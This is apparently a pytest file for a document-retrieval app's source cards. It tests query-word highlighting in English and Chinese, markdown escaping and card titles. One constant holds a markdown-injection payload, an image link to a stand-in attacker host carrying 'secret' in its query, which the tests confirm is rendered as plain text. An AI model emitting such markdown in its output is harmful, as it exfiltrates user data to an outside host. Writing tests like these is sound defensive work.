"""Source cards: matched query words are highlighted the way the keyword retriever matches them, and
text from documents or the LLM renders literally (no HTML, images or links)."""
from __future__ import annotations

from markdown_it import MarkdownIt

from retrieval import Tokenizer
from ui.cards import card_title, fact_line, highlight, safe_markdown
from zhiku.records import Chunk, Citation, Document, Hit, Triple

INJECTED = 'See ![x](http://evil.example/?q=secret) and [click](http://evil.example) <img src="http://evil.example">'


def rendered(markdown: str) -> str:
    """HTML as a CommonMark renderer with GFM tables and strikethrough makes it (Streamlit's markdown is GFM)."""
    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)


def test_highlight_marks_stemmed_english_matches_and_escapes_markdown() -> None:
    text = highlight("The travel policy says: *hotels* cost $200.", "What do travel policies say?", Tokenizer())
    assert text.startswith("The :orange-background[**travel policy says**]")
    assert "hotels" in text and ":orange-background[**hotels**]" not in text
    assert r"\*" in text and r"\$200" in text  # no emphasis, no LaTeX


def test_highlight_joins_neighbouring_matches_and_keeps_line_breaks() -> None:
    text = highlight("Annual leave: 30 days\nSick leave: paid", "annual leave days", Tokenizer())
    assert text.startswith(":orange-background[**Annual leave**]\\: 30 :orange-background[**days**]  \n")


def test_highlight_marks_chinese_words() -> None:
    text = highlight("员工差旅报销政策规定酒店费用上限。", "差旅报销的规定", Tokenizer())
    assert text.startswith("员工:orange-background[**差旅报销**]")


def test_answers_show_dollar_signs_not_latex() -> None:
    assert safe_markdown("between $90 and $120") == r"between \$90 and \$120"


def test_safe_markdown_renders_an_injected_image_link_or_tag_as_text() -> None:
    html = rendered(safe_markdown(INJECTED))
    assert "<img" not in html and "<a " not in html and "http://evil.example" in html
    assert "<img" in rendered(INJECTED) and "<a " in rendered(INJECTED)  # what the escaping prevents


def test_safe_markdown_of_streamed_pieces_equals_that_of_the_whole_text() -> None:
    pieces = ["See ![", "x](http://evil", ".example/?q=secret)\nnext"]
    assert "".join(map(safe_markdown, pieces)) == safe_markdown("".join(pieces))


def test_an_injected_image_in_a_passage_is_escaped_when_highlighted() -> None:
    html = rendered(highlight(INJECTED, "secret click", Tokenizer()))
    assert "<img" not in html and "<a " not in html


def test_highlight_without_matches_is_the_escaped_passage() -> None:
    assert highlight("a_b [c]", "zzz", Tokenizer()) == safe_markdown("a_b [c]") == r"a\_b \[c\]"


def test_card_title_names_file_page_and_section() -> None:
    hit = Hit(chunk=Chunk(text="x", position=0, n_tokens=1, page=3, heading_path=("Travel", "Hotels")),
              document=Document(source="/data/handbook.pdf", content_hash="h"), score=1.0)
    assert card_title(Citation(2, hit)) == "[2] handbook.pdf · p. 3 · Travel > Hotels"
    assert fact_line(Triple("Acme", "based_in", "Berlin")) == r"Acme — *based\_in* → Berlin"
